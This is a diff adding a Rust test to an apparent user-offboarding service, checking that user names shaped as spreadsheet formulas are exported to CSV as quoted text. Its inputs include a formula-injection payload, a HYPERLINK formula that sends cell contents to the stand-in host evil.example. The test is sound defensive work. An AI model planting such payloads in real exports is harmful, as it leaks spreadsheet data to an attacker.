@@ -21,6 +21,7 @@ store::backend_tests!(
     a_webhook_answer_can_confirm_a_revocation,
     an_unconfirmed_revocation_is_overdue_after_the_sla,
     the_admin_reads_and_exports_the_offboarding_records_of_its_own_tenant_only,
+    an_exported_user_name_never_runs_as_a_spreadsheet_formula,
 );
 
 async fn call(server: &TestServer, key: &str, method: reqwest::Method, path: &str) -> (u16, Value) {
@@ -267,4 +268,24 @@ async fn the_admin_reads_and_exports_the_offboarding_records_of_its_own_tenant_o
     assert_eq!(bad.status(), 400);
     let anonymous = reqwest::Client::new().get(server.url("/admin/offboarding/export")).send().await.unwrap();
     assert_eq!(anonymous.status(), 401);
+}
+
+/// The identity provider chooses user names: one written as a formula is exported as text.
+async fn an_exported_user_name_never_runs_as_a_spreadsheet_formula(db: TestDatabase) {
+    let server = TestServer::start(&db).await;
+    let admin = crate::onboarding::admin_of(&server, "acme", "it@acme.example").await;
+    let acme = Directory::new(&db, &server, "acme").await;
+    let names = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "@SUM(1+1)", "+1", "-1"];
+    for name in names {
+        let id = acme.create_user(name).await;
+        acme.patch(&format!("/Users/{id}"), json!([{"op": "replace", "path": "active", "value": false}])).await;
+    }
+    let response = admin.get_request("/admin/offboarding/export").header("accept-encoding", "identity").send().await;
+    let body = response.unwrap().text().await.unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
+    let mut exported: Vec<String> = reader.records().map(|record| record.unwrap()[0].to_owned()).collect();
+    exported.sort();
+    let mut expected: Vec<String> = names.iter().map(|name| format!("'{name}")).collect();
+    expected.sort();
+    assert_eq!(exported, expected, "{body}");
 }
